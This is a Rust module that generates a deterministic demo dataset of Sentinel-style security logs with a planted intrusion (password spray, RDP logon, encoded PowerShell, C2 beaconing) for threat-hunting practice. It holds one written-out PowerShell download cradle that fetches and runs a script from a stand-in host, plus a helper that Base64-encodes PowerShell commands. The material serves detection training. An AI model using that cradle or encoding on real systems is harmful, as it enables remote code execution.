//! The built-in demo dataset: deterministic Sentinel-style tables with a planted intrusion.
//!
//! Tables: `SecurityEvent` (4624, 4625, 4688), `SigninLogs`, `DeviceProcessEvents` and
//! `DeviceNetworkEvents`, a few thousand rows each, with Sentinel's column names and types.
//!
//! **Time anchor.** Row content comes from a ChaCha generator with a fixed seed; only the
//! timestamps move. They are offsets from the *anchor*, midnight UTC at the start of the
//! current day (from the session's clock), and cover the [`DAYS`] days before it. So the same
//! day always gives the same rows, and `ago(7d)` always finds the whole dataset. The intrusion
//! happens in the last hours before the anchor, so `ago(2d)` or wider always covers all of it.
//!
//! **The intrusion** (see [`story`] for the exact values):
//! 1. a password spray from one public IP: many failed logons (`SecurityEvent` 4625 and
//!    `SigninLogs` result 50126) against many accounts within twenty minutes;
//! 2. a successful logon of one sprayed account from the same IP (4624 logon type 10 on the
//!    remote desktop server, and a successful sign-in);
//! 3. on that server, `cmd.exe` starts `powershell.exe -enc` with a Base64 download cradle,
//!    followed by discovery commands;
//! 4. the PowerShell process then connects to a public IP every 60 seconds, with a few seconds
//!    of jitter, until the anchor (`DeviceNetworkEvents`).
//!
//! Attacker infrastructure uses documentation IP ranges (RFC 5737) and `example.net` names.

mod device_events;
mod org;
mod security_event;
mod signin_logs;
mod table;

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex, OnceLock};

use polars::prelude::DataFrame;
use rand::SeedableRng as _;
use rand_chacha::ChaCha8Rng;

pub use org::NANOS_PER_DAY;
use org::{NANOS_PER_HOUR, NANOS_PER_MINUTE, Org};

/// The generator's seed; changing it changes every row.
pub const SEED: u64 = 0x5155_4152_5259;

/// The number of days of data before the anchor.
pub const DAYS: i64 = 7;

/// The planted intrusion's fixed values, for tests and for the README's example hunt.
pub mod story {
    /// The public IP of the password spray and of the attacker's logon (RFC 5737 TEST-NET-3).
    pub const ATTACKER_IP: &str = "203.0.113.77";
    /// The workstation name the attacker's machine reports in failed logons.
    pub const ATTACKER_WORKSTATION: &str = "DESKTOP-7QX2ZK";
    /// The sprayed account whose password was guessed.
    pub const COMPROMISED_USER: &str = "jordan.lee";
    /// The remote desktop server the attacker logs on to.
    pub const COMPROMISED_HOST: &str = "RDS01";
    /// The beacon's destination (RFC 5737 TEST-NET-2) and its name.
    pub const C2_IP: &str = "198.51.100.23";
    pub const C2_DOMAIN: &str = "cdn-sync.example.net";
    pub const C2_PORT: i32 = 443;
    /// The PowerShell command that the encoded command decodes to.
    pub const DOWNLOAD_CRADLE: &str =
        "IEX (New-Object Net.WebClient).DownloadString('http://cdn-sync.example.net/update.ps1')";
    /// The number of accounts sprayed, including the compromised one.
    pub const SPRAYED_ACCOUNTS: usize = 45;
    /// The beacon interval in seconds, before jitter.
    pub const BEACON_INTERVAL_SECONDS: i64 = 60;
    /// The maximum jitter in seconds, either way.
    pub const BEACON_JITTER_SECONDS: i64 = 6;
}

/// The intrusion's timeline as offsets before the anchor, in nanoseconds.
struct Timeline {
    spray_start: i64,
    spray_end: i64,
    logon: i64,
    execution: i64,
    beacon_start: i64,
}

impl Timeline {
    fn new(anchor: i64) -> Timeline {
        let spray_start = anchor - 6 * NANOS_PER_HOUR;
        Timeline {
            spray_start,
            spray_end: spray_start + 20 * NANOS_PER_MINUTE,
            logon: spray_start + 26 * NANOS_PER_MINUTE,
            execution: spray_start + 41 * NANOS_PER_MINUTE,
            beacon_start: spray_start + 44 * NANOS_PER_MINUTE,
        }
    }
}

/// Returns the anchor for `now_nanos`: midnight UTC at the start of that day.
pub fn anchor_for(now_nanos: i64) -> i64 {
    now_nanos.div_euclid(NANOS_PER_DAY) * NANOS_PER_DAY
}

/// The tables of one anchor day, by name.
pub type Dataset = BTreeMap<String, DataFrame>;

/// Returns the demo dataset for the day of `now_nanos`, generating it on first use that day.
pub fn dataset_for(now_nanos: i64) -> Arc<Dataset> {
    /// The anchor and dataset of the last generated day.
    type DayCache = Option<(i64, Arc<Dataset>)>;
    static CACHE: OnceLock<Mutex<DayCache>> = OnceLock::new();
    let anchor = anchor_for(now_nanos);
    let mut cache = CACHE
        .get_or_init(|| Mutex::new(None))
        .lock()
        .unwrap_or_else(|p| p.into_inner());
    if let Some((cached_anchor, dataset)) = cache.as_ref()
        && *cached_anchor == anchor
    {
        return Arc::clone(dataset);
    }
    let dataset = Arc::new(generate(anchor));
    *cache = Some((anchor, Arc::clone(&dataset)));
    dataset
}

/// Generates every demo table for the given anchor (nanoseconds since the Unix epoch).
pub fn generate(anchor: i64) -> Dataset {
    let mut rng = ChaCha8Rng::seed_from_u64(SEED);
    let org = Org::generate(&mut rng);
    let timeline = Timeline::new(anchor);
    let start = anchor - DAYS * NANOS_PER_DAY;

    let mut launches = org::background_launches(&org, &mut rng, 2_400, start, anchor);
    launches.extend(device_events::attack_launches(&org, &mut rng, &timeline));

    let mut tables = Dataset::new();
    tables.insert(
        "SecurityEvent".to_owned(),
        security_event::generate(&org, &mut rng, &launches, &timeline, start, anchor),
    );
    tables.insert(
        "SigninLogs".to_owned(),
        signin_logs::generate(&org, &mut rng, &timeline, start, anchor),
    );
    tables.insert(
        "DeviceProcessEvents".to_owned(),
        device_events::processes(&org, &mut rng, &launches),
    );
    tables.insert(
        "DeviceNetworkEvents".to_owned(),
        device_events::network(&org, &mut rng, &timeline, start, anchor),
    );
    tables
}

/// Encodes `text` as PowerShell's `-EncodedCommand` expects: Base64 of UTF-16LE.
pub fn encode_powershell_command(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64(&bytes)
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for (i, shift) in [18, 12, 6, 0].into_iter().enumerate() {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> shift) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests;
